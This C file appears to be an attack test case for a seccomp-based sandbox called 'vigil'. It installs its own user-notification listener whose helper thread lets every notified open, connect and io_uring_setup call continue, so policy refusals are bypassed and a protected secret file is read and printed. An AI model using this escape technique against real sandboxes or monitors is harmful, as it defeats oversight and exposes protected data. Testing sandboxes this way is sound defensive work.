/* attack_filter_listener.c: hide calls from vigil behind a
 * seccomp listener of the candidate's own.  Its filter answers
 * RET_USER_NOTIF for the calls vigil decides (RET_USER_NOTIF outranks
 * RET_TRACE) and a helper thread, which the filter does not cover, tells
 * the kernel to CONTINUE each one.  With the listener in place the policy's
 * refusals would not hold: the secret file (SECRET, in the workdir) is
 * read, io_uring_setup works.
 * A child also tries prctl(PR_SET_SECCOMP), which cannot ask for a
 * listener: its notifying filter only makes its own calls fail. */
#include "attack_filter.h"

#include <fcntl.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/wait.h>

static int fd_pipe[2];

static struct sock_filter notify_filter[] = {
    NATIVE_ONLY,
    LOAD(nr),
    IF_EQ_RET(SYS_openat, SECCOMP_RET_USER_NOTIF),
    IF_EQ_RET(SYS_open, SECCOMP_RET_USER_NOTIF),
    IF_EQ_RET(SYS_io_uring_setup, SECCOMP_RET_USER_NOTIF),
    IF_EQ_RET(SYS_connect, SECCOMP_RET_USER_NOTIF),
    RET(SECCOMP_RET_ALLOW),
};

/* The helper: wait for the listener, then let every notified call run. */
static void *answer(void *arg)
{
    (void)arg;
    int fd;
    if (read(fd_pipe[0], &fd, sizeof fd) != sizeof fd)
        return NULL;
    for (;;) {
        struct seccomp_notif req;
        struct seccomp_notif_resp resp;
        memset(&req, 0, sizeof req);
        if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
            continue;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static void read_secret(const char *name, const char *path)
{
    int fd = open(path, O_RDONLY);
    report(name, fd);
    if (fd < 0)
        return;
    char buf[256];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    buf[n > 0 ? n : 0] = 0;
    printf("secret: %s\n", buf);
    close(fd);
}

/* prctl installs with no flags: no listener, so RET_USER_NOTIF fails the
 * call with ENOSYS. */
static void prctl_child(const char *path)
{
    pid_t pid = fork();
    if (pid == 0) {
        struct sock_fprog prog = {.len = sizeof notify_filter / sizeof notify_filter[0],
                                  .filter = notify_filter};
        report("prctl_filter", prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog));
        read_secret("prctl_open_secret", path);
        _exit(0);
    }
    waitpid(pid, NULL, 0);
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (pipe(fd_pipe) < 0)
        return 2;
    pthread_t helper;
    if (pthread_create(&helper, NULL, answer, NULL) != 0)
        return 2;
    long fd = INSTALL(notify_filter, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    report("listener", fd);
    report("listener_tsync", INSTALL(notify_filter, SECCOMP_FILTER_FLAG_NEW_LISTENER |
                                                         SECCOMP_FILTER_FLAG_TSYNC_ESRCH |
                                                         SECCOMP_FILTER_FLAG_TSYNC));
    if (fd >= 0) {
        int lfd = (int)fd;
        if (write(fd_pipe[1], &lfd, sizeof lfd) != sizeof lfd)
            return 2;
    }
    read_secret("open_secret", SECRET);
    char params[120] = {0};
    report("io_uring_setup", syscall(SYS_io_uring_setup, 8, params));
    prctl_child(SECRET);
    return 0;
}
